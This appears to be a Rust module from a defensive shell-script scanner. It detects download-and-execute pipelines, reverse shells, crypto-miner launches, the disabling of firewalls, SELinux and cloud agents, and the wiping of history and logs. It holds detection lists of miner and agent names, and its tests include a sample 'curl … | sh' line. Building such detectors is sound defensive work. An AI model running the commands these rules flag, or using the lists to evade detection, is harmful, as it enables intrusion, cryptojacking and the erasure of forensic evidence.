            if args().any(|a| a == "base64" || a == "-base64" || a == "-a")
                && args().any(|a| a == "-d") =>
        {
            Some(Produces::Decode)
        }
        "xxd" if args().any(|a| has_flag(a, 'r')) => Some(Produces::Decode),
        "uudecode" | "gunzip" | "zcat" | "bzcat" | "xzcat" => None,
        "printf" | "echo" if args().map(escape_count).sum::<usize>() >= 8 => Some(Produces::Decode),
        "nc" | "ncat" | "netcat" | "telnet" | "socat" => Some(Produces::Network),
        "openssl" if args().any(|a| a == "s_client") => Some(Produces::Network),
        _ => {
            let code = inline_code(argv)?;
            let lang = interpreter(name)?;
            let c = code.text.as_str();
            if decodes(lang, c) && !executes(lang, c) {
                Some(Produces::Decode)
            } else if fetches(lang, c) && !executes(lang, c) {
                Some(Produces::Download)
            } else {
                None
            }
        }
    }
}

/// `\xNN` and `\NNN` escapes in a word: payloads hidden from a reader.
fn escape_count(s: &str) -> usize {
    let b = s.as_bytes();
    (0..b.len().saturating_sub(3))
        .filter(|&i| {
            b[i] == b'\\'
                && ((b[i + 1] == b'x' && b[i + 2].is_ascii_hexdigit())
                    || (b[i + 1].is_ascii_digit()
                        && b[i + 2].is_ascii_digit()
                        && b[i + 3].is_ascii_digit()))
        })
        .count()
}

fn fetches(lang: &str, code: &str) -> bool {
    let markers: &[&str] = match lang {
        "python" => &[
            "urllib",
            "urlopen",
            "requests.get",
            "http.client",
            "httplib",
        ],
        "perl" => &["LWP::", "HTTP::Tiny", "getstore("],
        "ruby" => &["open-uri", "Net::HTTP", "URI.open"],
        "php" => &[
            "file_get_contents(\"http",
            "file_get_contents('http",
            "curl_exec",
        ],
        "node" => &["require('http", "require(\"http", "fetch("],
        _ => &[],
    };
    markers.iter().any(|m| code.contains(m))
}

fn decodes(lang: &str, code: &str) -> bool {
    let markers: &[&str] = match lang {
        "python" => &[
            "b64decode",
            "base64.decode",
            "bytes.fromhex",
            "codecs.decode",
            "zlib.decompress",
        ],
        "perl" => &["decode_base64", "MIME::Base64", "pack(\"H*\"", "pack('H*'"],
        "ruby" => &["Base64.decode64", "unpack(\"m", "unpack('m", ".unpack1(\"m"],
        "php" => &["base64_decode", "gzinflate", "str_rot13", "hex2bin"],
        "node" => &["Buffer.from(", "atob("],
        _ => &[],
    };
    markers.iter().any(|m| code.contains(m))
}

fn executes(lang: &str, code: &str) -> bool {
    let markers: &[&str] = match lang {
        "python" => &["exec(", "eval(", "os.system(", "subprocess", "os.popen("],
        "perl" => &["eval", "system(", "exec(", "`"],
        "ruby" => &["eval(", "eval ", "system(", "exec(", "`"],
        "php" => &[
            "eval(",
            "system(",
            "exec(",
            "passthru(",
            "shell_exec(",
            "assert(",
        ],
        "node" => &["eval(", "child_process", "Function("],
        _ => &[],
    };
    markers.iter().any(|m| code.contains(m))
}

/// A file a command writes that a later command may run.
struct Produced {
    path: String,
    kind: Produces,
}

/// Files written by `curl -o`, `wget -O`/plain `wget URL`, and decoders redirected to a file.
fn produced_files(cmd: &Cmd, argv: &[&Word], kind: Produces) -> Vec<Produced> {
    let mut out = Vec::new();
    let name = argv.first().map(|w| basename(&w.text)).unwrap_or("");
    let mut push = |p: &str| {
        if !p.is_empty() && p != "-" && !p.starts_with("/dev/") {
            out.push(Produced {
                path: p.to_string(),
                kind,
            })
        }
    };
    for r in &cmd.redirs {
        if matches!(r.op, ">" | ">>" | ">|") && r.fd.is_none_or(|f| f == 1) {
            push(&r.target.text);
        }
    }
    let urls: Vec<&str> = argv
        .iter()
        .map(|w| w.text.as_str())
        .filter(|t| t.contains("://"))
        .collect();
    let remote_name = |u: &str| -> String {
        let path = u.split(['?', '#']).next().unwrap_or(u);
        let path = path.split_once("://").map_or(path, |(_, r)| r);
        match path.split_once('/') {
            Some((_, p)) => basename(p).to_string(),
            None => String::new(),
        }
    };
    match name {
        "curl" => {
            let mut dir: Option<String> = None;
            let mut files: Vec<String> = Vec::new();
            let mut remote = false;
            let mut i = 1;
            while i < argv.len() {
                let t = argv[i].text.as_str();
                let next = argv.get(i + 1).map(|w| w.text.as_str());
                if let Some(v) = t.strip_prefix("--output=") {
                    files.push(v.into());
                } else if t == "--output" {
                    files.extend(next.map(String::from));
                    i += 1;
                } else if t == "--output-dir" {
                    dir = next.map(String::from);
                    i += 1;
                } else if t == "--remote-name" || t == "--remote-name-all" {
                    remote = true;
                } else if t.starts_with('-') && !t.starts_with("--") {
                    // A cluster like `-fsSLo FILE` or `-o/tmp/x`.
                    let flags = &t[1..];
                    if let Some(pos) = flags.find('o') {
                        let rest = &flags[pos + 1..];
                        if rest.is_empty() {
                            files.extend(next.map(String::from));
                            i += 1;
                        } else {
                            files.push(rest.into());
                        }
                    } else if flags.contains('O') {
                        remote = true;
                    }
                }
                i += 1;
            }
            if remote {
                files.extend(urls.iter().map(|u| remote_name(u)));
            }
            for f in files {
                match &dir {
                    Some(d) if !f.starts_with('/') => push(&format!("{d}/{f}")),
                    _ => push(&f),
                }
            }
        }
        "wget" => {
            let mut dir: Option<String> = None;
            let mut file: Option<String> = None;
            let mut i = 1;
            while i < argv.len() {
                let t = argv[i].text.as_str();
                let next = argv.get(i + 1).map(|w| w.text.as_str());
                if let Some(v) = t.strip_prefix("--output-document=") {
                    file = Some(v.into());
                } else if let Some(v) = t.strip_prefix("--directory-prefix=") {
                    dir = Some(v.into());
                } else if t == "-P" || t == "--directory-prefix" {
                    dir = next.map(String::from);
                    i += 1;
                } else if t == "--output-document" {
                    file = next.map(String::from);
                    i += 1;
                } else if t.starts_with('-') && !t.starts_with("--") {
                    let flags = &t[1..];
                    if let Some(pos) = flags.find('O') {
                        let rest = &flags[pos + 1..];
                        if rest.is_empty() {
                            file = next.map(String::from);
                            i += 1;
                        } else {
                            file = Some(rest.into());
                        }
                    } else if let Some(pos) = flags.find('P') {
                        let rest = &flags[pos + 1..];
                        if rest.is_empty() {
                            dir = next.map(String::from);
                            i += 1;
                        } else {
                            dir = Some(rest.into());
                        }
                    }
                }
                i += 1;
            }
            let files: Vec<String> = match file {
                Some(f) => vec![f],
                None => urls.iter().map(|u| remote_name(u)).collect(),
            };
            for f in files {
                match &dir {
                    Some(d) if !f.starts_with('/') => push(&format!("{d}/{f}")),
                    _ => push(&f),
                }
            }
        }
        _ => {
            // `base64 -d -o FILE` (BSD).
            if kind == Produces::Decode
                && let Some(i) = argv.iter().position(|w| w.text == "-o")
                && let Some(w) = argv.get(i + 1)
            {
                push(&w.text);
            }
        }
    }
    out
}

/// Whether a command path refers to a produced file: same path, or same file name when one
/// side is relative (`cd /tmp; wget …/x; ./x`).
fn same_file(run: &str, produced: &str) -> bool {
    let run = run.strip_prefix("./").unwrap_or(run);
    let produced = produced.strip_prefix("./").unwrap_or(produced);
    if run.is_empty() || produced.is_empty() || run.starts_with('$') {
        return false;
    }
    run == produced
        || ((!run.starts_with('/') || !produced.starts_with('/'))
            && basename(run) == basename(produced)
            && (run.contains('/') || produced.contains('/') || run == produced))
}

/// Runs every check over a script: its pipelines, its commands, the scripts nested in them.
fn check_script(script: &Script, depth: usize, hits: &mut Hits) {
    let mut produced: Vec<Produced> = Vec::new();
    // `for NAME in WORDS` loops seen so far: (variable, words).
    let mut loops: Vec<(String, Vec<String>)> = Vec::new();
    let mut i = 0;
    while i < script.cmds.len() {
        // One pipeline: cmds[i..=j].
        let mut j = i;
        while j + 1 < script.cmds.len() && script.cmds[j].sep == Sep::Pipe {
            j += 1;
        }
        let pipeline = &script.cmds[i..=j];
        check_pipeline(script, pipeline, hits);
        for cmd in pipeline {
            let argv = effective(cmd);
            check_command(script, cmd, &argv, &produced, &loops, hits);
            if let Some(kind) = produces(&argv)
                && kind != Produces::Network
            {
                produced.extend(produced_files(cmd, &argv, kind));
                // Only recent ones: bounded work on hostile scripts.
                let over = produced.len().saturating_sub(MAX_TRACKED);
                produced.drain(..over);
            }
            if cmd.words.first().is_some_and(|w| w.text == "for")
                && cmd.words.get(2).is_some_and(|w| w.text == "in")
            {
                loops.push((
                    cmd.words[1].text.clone(),
                    cmd.words[3..].iter().map(|w| w.text.clone()).collect(),
                ));
                let over = loops.len().saturating_sub(MAX_TRACKED);
                loops.drain(..over);
            }
            if depth < MAX_DEPTH {
                for nested in nested_scripts(cmd, &argv) {
                    check_script(&nested, depth + 1, hits);
                }
            }
        }
        i = j + 1;
    }
}

fn span(script: &Script, cmds: &[Cmd]) -> String {
    let (Some(a), Some(b)) = (cmds.first(), cmds.last()) else {
        return String::new();
    };
    let end = b.end.min(script.src.len());
    let start = a.start.min(end);
    let s = String::from_utf8_lossy(&script.src.as_bytes()[start..end]).into_owned();
    evidence(&s)
}

fn hit(rule: &'static Rule, line: usize, evidence: String) -> ShellHit {
    ShellHit {
        rule,
        line,
        evidence,
    }
}

fn check_pipeline(script: &Script, pipeline: &[Cmd], hits: &mut Hits) {
    if pipeline.len() < 2 {
        return;
    }
    let argvs: Vec<Vec<&Word>> = pipeline.iter().map(effective).collect();
    let line = pipeline[0].line;
    // `ps aux | grep xmrig | awk '{print $2}' | xargs kill -9`: the names are upstream.
    let kills = argvs
        .iter()
        .any(|a| a.first().is_some_and(|w| is_killer(&w.text)));
    let names_miner = argvs
        .iter()
        .filter(|a| a.first().is_some_and(|w| !is_killer(&w.text)))
        .flat_map(|a| a.iter().skip(1))
        .any(|w| mentions_miner(&w.text).is_some());
    if kills && names_miner {
        hits.push(hit(&KILL_RIVALS, line, span(script, pipeline)));
    }
    let kinds: Vec<Option<Produces>> = argvs.iter().map(|a| produces(a)).collect();
    // net_after[k]: a network stage comes after stage k (computed once: pipelines of hostile
    // scripts can be very long).
    let mut net_after = vec![false; argvs.len()];
    for k in (0..argvs.len().saturating_sub(1)).rev() {
        net_after[k] = net_after[k + 1] || kinds[k + 1] == Some(Produces::Network);
    }
    let mut source: Option<Produces> = None;
    for (k, argv) in argvs.iter().enumerate() {
        if k > 0 && reads_stdin(argv) {
            let shell_i = argv.iter().skip(1).any(|w| has_flag(&w.text, 'i'));
            let net_after = net_after[k];
            let rule: Option<&'static Rule> = match source {
                Some(Produces::Download) => Some(&DOWNLOAD_EXEC),
                Some(Produces::Decode) => Some(&DECODE_EXEC),
                Some(Produces::Network) => Some(&REVERSE_SHELL),
                None if shell_i && net_after => Some(&REVERSE_SHELL),
                None => None,
            };
            if let Some(rule) = rule {
                hits.push(hit(rule, line, span(script, pipeline)));
                return;
            }
        }
        if let Some(p) = kinds[k] {
            // A later decoder wins: `curl … | base64 -d | sh` hides the code twice.
            source = Some(match (source, p) {
                (_, Produces::Decode) | (Some(Produces::Decode), _) => Produces::Decode,
                (_, p) => p,
            });
        }
    }
}

/// Names that only miners and mining malware use, matched inside kill commands.
const MINER_NAMES: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "xmrstak",
    "minerd",
    "cpuminer",
    "kdevtmpfsi",
    "kinsing",
    "kthreaddi",
    "kworkerds",
    "sustes",
    "watchbog",
    "kerberods",
    "khugepageds",
    "cryptonight",
    "stratum",
    "nicehash",
    "minexmr",
    "supportxmr",
    "nanopool",
    "monero",
    "xmr",
    "miner",
    "t-rex",
    "lolminer",
    "nbminer",
    "phoenixminer",
    "srbminer",
    "ethminer",
    "ddgs",
    "qw3xt",
    "zigw",
    "kpsmouseds",
    "dbused",
    "pamdicks",
];

fn is_killer(name: &str) -> bool {
    matches!(basename(name), "kill" | "pkill" | "killall" | "killall5")
}

fn mentions_miner(s: &str) -> Option<&'static str> {
    let l = s.to_ascii_lowercase();
    MINER_NAMES.iter().copied().find(|n| l.contains(n))
}

/// Paths whose immutable flag malware flips to plant or protect persistence.
fn sensitive_path(p: &str) -> bool {
    let b = basename(p);
    matches!(
        b,
        "authorized_keys"
            | "authorized_keys2"
            | "ld.so.preload"
            | "passwd"
            | "shadow"
            | "group"
            | "gshadow"
            | "sudoers"
            | "crontab"
            | "root"
            | "rc.local"
            | "hosts"
            | "sshd_config"
    ) || [
        "/etc/cron",
        "/var/spool/cron",
        "/etc/sudoers.d",
        "/etc/ssh/",
        "/.ssh",
        "/usr/bin/",
        "/usr/sbin/",
        "/bin/",
        "/sbin/",
        "/etc/systemd/",
        "/etc/init.d/",
        "/lib/systemd/",
        "/usr/local/bin/",
    ]
    .iter()
    .any(|d| p.contains(d))
}

const CLOUD_AGENTS: &[&str] = &[
    "aliyun",
    "alihids",
    "aliyundun",
    "alinet",
    "aegis_",
    "/aegis/",
    "qcloud",
    "yunjing",
    "barad_agent",
    "bcm-agent",
    "argusagent",
];

fn is_history_file(p: &str) -> bool {
    matches!(
        basename(p),
        ".bash_history"
            | ".zsh_history"
            | ".sh_history"
            | ".ash_history"
            | ".history"
            | ".mysql_history"
            | ".python_history"
    )
}

fn is_system_log(p: &str) -> bool {
    let Some(rest) = p
        .strip_prefix("/var/log/")
        .or_else(|| p.strip_prefix("/var/run/"))
        .or_else(|| p.strip_prefix("/run/"))
    else {
        return p == "/var/log" || p == "/var/log/";
    };
    if p.starts_with("/var/run/") || p.starts_with("/run/") {
        return rest == "utmp";
    }
    rest == "*"
        || rest.starts_with("audit/")
        || matches!(
            rest.trim_end_matches(['*', '.', '0', '1']),
            "wtmp"
                | "btmp"
                | "lastlog"
                | "utmp"
                | "faillog"
                | "auth.log"
                | "secure"
                | "messages"
                | "syslog"
                | "kern.log"
        )
}

/// Whether a command only writes nothing into its redirections: `> f`, `: > f`, `echo > f`,
/// `cat /dev/null > f`, `true > f`.
fn truncates(argv: &[&Word]) -> bool {
    match argv {
        [] => true,
        [w] => matches!(w.text.as_str(), ":" | "true" | "echo" | "printf"),
        [w, a] => {
            (w.text == "echo" && matches!(a.text.as_str(), "" | "-n" | "-e"))
                || (w.text == "cat" && a.text == "/dev/null")
                || (w.text == "printf" && a.text.is_empty())
        }
        _ => false,
    }
}

fn check_command(
    script: &Script,
    cmd: &Cmd,
    argv: &[&Word],
    produced: &[Produced],
    loops: &[(String, Vec<String>)],
    hits: &mut Hits,
) {
    let ev = || span(script, std::slice::from_ref(cmd));
    let line = cmd.line;
    let name = argv.first().map(|w| basename(&w.text)).unwrap_or("");
    let args: Vec<&str> = argv.iter().skip(1).map(|w| w.text.as_str()).collect();

    // Running what an earlier command downloaded or decoded.
    let run_target = argv
        .first()
        .filter(|w| w.text.contains('/'))
        .map(|w| w.text.as_str())
        .or_else(|| script_operand(argv).map(|w| w.text.as_str()));
    if let Some(t) = run_target
        && let Some(p) = produced.iter().find(|p| same_file(t, &p.path))
    {
        let rule = if p.kind == Produces::Decode {
            &DECODE_EXEC
        } else {
            &DOWNLOAD_EXEC
        };
        hits.push(hit(rule, line, ev()));
    }

    // Running the output of a substitution: `$(curl …)`, `bash <(curl …)`, `eval "$(… | base64 -d)"`.
    let executed_subs = argv
        .first()
        .copied()
        .into_iter()
        .chain(script_operand(argv))
        .flat_map(|w| w.subs.iter());
    for sub in executed_subs {
        let kinds: Vec<Produces> = sub
            .cmds
            .iter()
            .filter_map(|c| produces(&effective(c)))
            .collect();
        let rule = if kinds.contains(&Produces::Decode) {
            Some(&DECODE_EXEC)
        } else if kinds.contains(&Produces::Download) {
            Some(&DOWNLOAD_EXEC)
        } else {
            None
        };
        if let Some(rule) = rule {
            hits.push(hit(rule, line, ev()));
        }
    }

    // Interpreter one-liners that fetch or decode and then execute.
    if let (Some(code), Some(lang)) = (inline_code(argv), interpreter(name)) {
        let c = code.text.as_str();
        if executes(lang, c) {
            if decodes(lang, c) {
                hits.push(hit(&DECODE_EXEC, line, ev()));
            } else if fetches(lang, c) {
                hits.push(hit(&DOWNLOAD_EXEC, line, ev()));
            }
        }
        let socket = c.contains("socket") || c.contains("Socket") || c.contains("fsockopen");
        let shell = [
            "/bin/sh",
            "/bin/bash",
            "pty.spawn",
            "\"sh\"",
            "'sh'",
            "cmd.exe",
        ]
        .iter()
        .any(|m| c.contains(m));
        if socket
            && shell
            && (c.contains("connect") || c.contains("fsockopen") || c.contains("TCPSocket"))
        {
            hits.push(hit(&REVERSE_SHELL, line, ev()));
        }
    }

    // Reverse shells by redirection or by netcat options.
    let to_socket = cmd
        .redirs
        .iter()
        .any(|r| r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/"));
    if to_socket && (is_shell(name) || interpreter(name).is_some()) {
        hits.push(hit(&REVERSE_SHELL, line, ev()));
    }
    if matches!(
        name,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
    ) {
        let exec = args.iter().enumerate().any(|(k, a)| {
            (a.starts_with("-e") || a.starts_with("-c") || *a == "--exec" || *a == "--sh-exec")
                && args
                    .get(k + 1)
                    .is_some_and(|n| is_shell(basename(n.split_whitespace().next().unwrap_or(""))))
                || a.starts_with("-e/") && is_shell(basename(a))
        });
        if exec {
            hits.push(hit(&REVERSE_SHELL, line, ev()));
        }
    }
    if name == "socat" {
        let l: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
        if l.iter()
            .any(|a| a.starts_with("exec:") || a.starts_with("system:"))
            && l.iter()
                .any(|a| a.starts_with("tcp") || a.starts_with("openssl") || a.starts_with("udp"))
        {
            hits.push(hit(&REVERSE_SHELL, line, ev()));
        }
    }

    // Miner command lines.
    if miner_flags(argv) {
        hits.push(hit(&MINER_LAUNCH, line, ev()));
    }

    // Killing rivals.
    if is_killer(name) {
        let mut named = args.iter().any(|a| mentions_miner(a).is_some())
            || argv
                .iter()
                .any(|w| w.subs.iter().any(|s| mentions_miner(&s.src).is_some()));
        // `for p in xmrig kinsing; do pkill -f $p; done`
        named |= loops.iter().any(|(var, words)| {
            args.iter()
                .any(|a| a.contains(&format!("${var}")) || a.contains(&format!("${{{var}}}")))
                && words.iter().any(|w| mentions_miner(w).is_some())
        });
        if named {
            hits.push(hit(&KILL_RIVALS, line, ev()));
        }
    }

    // Cloud agents.
    // `aegis` alone is a common word: only as a whole name or path component.
    let agent = |s: &str| {
        let l = s.to_ascii_lowercase();
        CLOUD_AGENTS.iter().any(|a| l.contains(a)) || basename(&l) == "aegis"
    };
    let stops = match name {
        "kill" | "pkill" | "killall" | "rm" | "chkconfig" | "update-rc.d" => true,
        "systemctl" | "service" => args
            .iter()
            .any(|a| matches!(*a, "stop" | "disable" | "mask" | "kill")),
        n => n.contains("uninst") || n.contains("quartz_uninstall"),
    };
    if stops
        && (args.iter().any(|a| agent(a))
            || (name.contains("uninst") && argv.first().is_some_and(|w| agent(&w.text))))
    {
        hits.push(hit(&CLOUD_AGENT, line, ev()));
    }

    // SELinux, AppArmor, auditd.
    let svc_off = |svc: &[&str]| -> bool {
        match name {
            "systemctl" => {
                args.iter()
                    .any(|a| matches!(*a, "stop" | "disable" | "mask" | "kill"))
                    && args
                        .iter()
                        .any(|a| svc.contains(&a.trim_end_matches(".service")))
            }
            "service" => {
                args.first().is_some_and(|a| svc.contains(a))
                    && args.get(1).is_some_and(|a| *a == "stop")
            }
            "chkconfig" => {
                args.first().is_some_and(|a| svc.contains(a))
                    && args.get(1).is_some_and(|a| *a == "off")
            }
            "update-rc.d" => {
                args.first().is_some_and(|a| svc.contains(a))
                    && args
                        .get(1)
                        .is_some_and(|a| matches!(*a, "disable" | "remove"))
            }
            n if argv
                .first()
                .is_some_and(|w| w.text.starts_with("/etc/init.d/")) =>
            {
                svc.contains(&n) && args.first().is_some_and(|a| *a == "stop")
            }
            _ => false,
        }
    };
    let selinux_off = (name == "setenforce"
        && matches!(args.first(), Some(&"0" | &"Permissive" | &"permissive")))
        || (name == "auditctl" && args.windows(2).any(|w| w == ["-e", "0"]))
        || name == "aa-teardown"
        || svc_off(&[
            "apparmor",
            "auditd",
            "selinux",
            "falco",
            "osqueryd",
            "wazuh-agent",
            "ossec",
        ])
        || cmd.redirs.iter().any(|r| {
            matches!(
                r.target.text.as_str(),
                "/sys/fs/selinux/enforce" | "/selinux/enforce"
            ) && truncates_or_zero(argv)
        });
    if selinux_off {
        hits.push(hit(&DISABLE_SECURITY, line, ev()));
    }

    // Firewalls.
    let ipt = matches!(
        name,
        "iptables" | "ip6tables" | "iptables-legacy" | "iptables-nft"
    );
    let firewall_off = (name == "ufw" && args.first() == Some(&"disable"))
        || (ipt && args.iter().any(|a| matches!(*a, "-F" | "--flush")))
        || (ipt
            && args.windows(3).any(|w| {
                matches!(w[0], "-P" | "--policy")
                    && matches!(w[1], "INPUT" | "FORWARD" | "OUTPUT")
                    && w[2] == "ACCEPT"
            }))
        || svc_off(&["firewalld", "ufw", "iptables", "ip6tables", "nftables"])
        || (name == "nft" && args.first() == Some(&"flush") && args.get(1) == Some(&"ruleset"));
    if firewall_off {
        hits.push(hit(&DISABLE_FIREWALL, line, ev()));
    }

    // NMI watchdog.
    let watchdog = (name == "sysctl"
        && args
            .iter()
            .any(|a| a.replace(' ', "").starts_with("kernel.nmi_watchdog=0")))
        || cmd
            .redirs
            .iter()
            .any(|r| r.target.text == "/proc/sys/kernel/nmi_watchdog" && truncates_or_zero(argv))
        || (matches!(name, "echo" | "printf")
            && args
                .iter()
                .any(|a| a.replace(' ', "") == "kernel.nmi_watchdog=0")
            && cmd.redirs.iter().any(|r| r.target.text.contains("sysctl")));
    if watchdog {
        hits.push(hit(&DISABLE_WATCHDOG, line, ev()));
    }

    // chattr on system files.
    if name == "chattr" {
        let flips = args.iter().any(|a| {
            (a.starts_with('+') || a.starts_with('-') || a.starts_with('='))
                && a.len() > 1
                && a[1..].chars().all(|c| c.is_ascii_alphabetic())
                && (a.contains('i') || a.contains('a'))
        });
        let target = args
            .iter()
            .filter(|a| !a.starts_with(['+', '-', '=']))
            .any(|a| sensitive_path(a));
        if flips && target {
            hits.push(hit(&IMMUTABLE, line, ev()));
        }
    }

    // History.
    let hist = (name == "history" && args.iter().any(|a| has_flag(a, 'c')))
        || (name == "unset" && args.iter().any(|a| matches!(*a, "HISTFILE" | "HISTSAVE")))
        || (name == "set" && args.windows(2).any(|w| w == ["+o", "history"]))
        || argv_or_assigns(cmd, argv).any(|(k, v)| {
            (k == "HISTFILE" && v == "/dev/null")
                || (matches!(k, "HISTSIZE" | "HISTFILESIZE" | "SAVEHIST") && v == "0")
        })
        || (matches!(name, "rm" | "shred" | "truncate" | "unlink")
            && args.iter().any(|a| is_history_file(a)))
        || (name == "ln" && args.contains(&"/dev/null") && args.iter().any(|a| is_history_file(a)))
        || (truncates(argv)
            && cmd
                .redirs
                .iter()
                .any(|r| matches!(r.op, ">" | ">|" | "&>") && is_history_file(&r.target.text)));
    if hist {
        hits.push(hit(&HISTORY_WIPE, line, ev()));
    }

    // Logs.
    let logs = (matches!(name, "rm" | "shred" | "unlink") && args.iter().any(|a| is_system_log(a)))
        || (name == "truncate" && args.iter().any(|a| is_system_log(a)))
        || (truncates(argv)
            && cmd
                .redirs
                .iter()
                .any(|r| matches!(r.op, ">" | ">|" | "&>") && is_system_log(&r.target.text)));
    if logs {
        hits.push(hit(&LOG_WIPE, line, ev()));
    }
}

/// `export NAME=VALUE`, `declare NAME=VALUE`, and leading `NAME=VALUE` assignments.
fn argv_or_assigns<'a>(
    cmd: &'a Cmd,
    argv: &'a [&'a Word],
) -> impl Iterator<Item = (&'a str, &'a str)> {
    let exported = argv
        .first()
        .filter(|w| {
            matches!(
                w.text.as_str(),
                "export" | "declare" | "typeset" | "readonly" | "local"
            )
        })
        .map(|_| &argv[1..])
        .unwrap_or(&[]);
    assignments(cmd)
        .chain(exported.iter().copied())
        .filter_map(|w| w.text.split_once('='))
}

/// `echo 0 > F`, `printf 0 > F`, or a bare truncation.
fn truncates_or_zero(argv: &[&Word]) -> bool {
    truncates(argv)
        || (matches!(
            argv.first().map(|w| w.text.as_str()),
            Some("echo" | "printf")
        ) && argv.last().is_some_and(|w| w.text.trim() == "0"))
}

fn miner_flags(argv: &[&Word]) -> bool {
    let texts: Vec<&str> = argv.iter().map(|w| w.text.as_str()).collect();
    let lower: Vec<String> = texts.iter().map(|t| t.to_ascii_lowercase()).collect();
    if lower.iter().any(|t| {
        t.contains("stratum+tcp://")
            || t.contains("stratum+ssl://")
            || t.contains("stratum+tls://")
            || t.contains("stratum2+tcp://")
            || t.contains("stratum1+tcp://")
    }) {
        return true;
    }
    if texts
        .iter()
        .any(|t| *t == "--donate-level" || t.starts_with("--donate-level="))
    {
        return true;
    }
    // `-o HOST:PORT -u WALLET` plus a miner-only option.
    let pool = texts.windows(2).any(|w| {
        matches!(w[0], "-o" | "--url")
            && w[1].rsplit_once(':').is_some_and(|(h, p)| {
                h.contains('.')
                    && !h.contains('/')
                    && p.len() >= 2
                    && p.len() <= 5
                    && p.bytes().all(|b| b.is_ascii_digit())
            })
    });
    let user = texts
        .iter()
        .any(|t| matches!(*t, "-u" | "--user") || t.starts_with("--user="));
    let miner_opt = texts.iter().any(|t| {
        matches!(
            *t,
            "-a" | "--algo"
                | "--coin"
                | "-k"
                | "--keepalive"
                | "--nicehash"
                | "--tls"
                | "--cpu-priority"
                | "--max-cpu-usage"
                | "--cpu-max-threads-hint"
                | "--randomx-1gb-pages"
                | "--rig-id"
        ) || t.starts_with("--algo=")
            || t.starts_with("--coin=")
            || t.starts_with("--cpu-priority=")
            || t.starts_with("--max-cpu-usage=")
    });
    pool && user && miner_opt
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_words_like_a_shell() {
        assert_eq!(
            words(r#"a 'b c' "d \"e\"" f\ g"#),
            ["a", "b c", "d \"e\"", "f g"]
        );
        assert_eq!(words("x|y&&z;w || v"), ["x", "y", "z", "w", "v"]);
        assert_eq!(
            words(r#"echo "$(curl "http://h/x")" `id`"#),
            ["echo", r#"$(curl "http://h/x")"#, "`id`"]
        );
        assert_eq!(words("a # comment\nb"), ["a", "b"]);
        assert_eq!(words("a\\\nb"), ["ab"]);
        assert_eq!(words("cat <<EOF >f\nnot a word\nEOF\nls"), ["cat", "ls"]);
        assert_eq!(words("2>/dev/null x >>y 1>&2"), ["x"]);
        assert_eq!(
            words("echo ${A:-b c} $((1+2))"),
            ["echo", "${A:-b c}", "$((1+2))"]
        );
        // Unbalanced input ends; it never panics or loops.
        assert_eq!(words("echo \"abc"), ["echo", "abc"]);
        assert_eq!(words("x $(y"), ["x", "$(y"]);
        assert_eq!(words("`"), ["``"]);
    }

    #[test]
    fn nested_scripts_are_read_again() {
        let s = parse(r#"sudo -u root bash -lc "echo hi | base64 -d | sh""#, 1, 0);
        let argv = effective(&s.cmds[0]);
        assert_eq!(argv[0].text, "bash");
        let nested = nested_scripts(&s.cmds[0], &argv);
        assert_eq!(nested.len(), 1);
        assert_eq!(nested[0].cmds.len(), 3);
    }

    #[test]
    fn every_prefix_of_every_sample_parses() {
        // Hostile scripts end anywhere: inside quotes, substitutions, here-documents.
        let src = include_str!("../tests/persistence/cases.txt");
        for sample in src.split("\n=== ") {
            let mut end = 0;
            while end <= sample.len() {
                if sample.is_char_boundary(end) {
                    analyze_script(&sample[..end]);
                    executed_paths(&sample[..end]);
                }
                end += 1;
            }
        }
        let deep = format!("{}x{}", "$(".repeat(200), ")".repeat(200));
        analyze_script(&deep);
        analyze_script(&"sh -c '".repeat(100));
    }

    #[test]
    fn repeated_hits_collapse_per_rule() {
        let text = "history -c\n".repeat(1000) + "curl -s http://203.0.113.7/a | sh\n";
        let hits = analyze_script(&text);
        let ids: Vec<&str> = hits.iter().map(|h| h.rule.id).collect();
        assert_eq!(ids, ["shell-history-wipe", "shell-download-exec"]);
        assert_eq!(hits[0].line, 1);
        assert_eq!(hits[0].evidence, "history -c (+999 more lines)");
        assert_eq!(hits[1].line, 1001);
        // A pipeline of many stages stays linear.
        let long = vec!["sh"; 200_000].join("|");
        assert!(analyze_script(&long).is_empty());
    }

    #[test]
    fn evidence_is_printable_and_short() {
        assert_eq!(evidence("a\nb\x1b[0m"), "a\\nb\\u{1b}[0m");
        assert_eq!(evidence(&"x".repeat(500)).chars().count(), EVIDENCE_MAX + 1);
        assert_eq!(evidence("a\u{202e}b"), "a\\u{202e}b");
    }

    #[test]
    fn executed_paths_follow_wrappers() {
        let p =
            executed_paths("nohup /tmp/.x/kworker -c cfg &\nsh -c '. /dev/shm/a'\nbash /var/tmp/b");
        let paths: Vec<(&str, Run)> = p.iter().map(|e| (e.path.as_str(), e.run)).collect();
        assert_eq!(
            paths,
            [
                ("/tmp/.x/kworker", Run::Program),
                ("sh", Run::Program),
                (".", Run::Program),
                ("/dev/shm/a", Run::Sourced),
                ("bash", Run::Program),
                ("/var/tmp/b", Run::Interpreted)
            ]
        );
        assert_eq!(p[0].line, 1);
        assert_eq!(p[5].line, 3);
    }
}
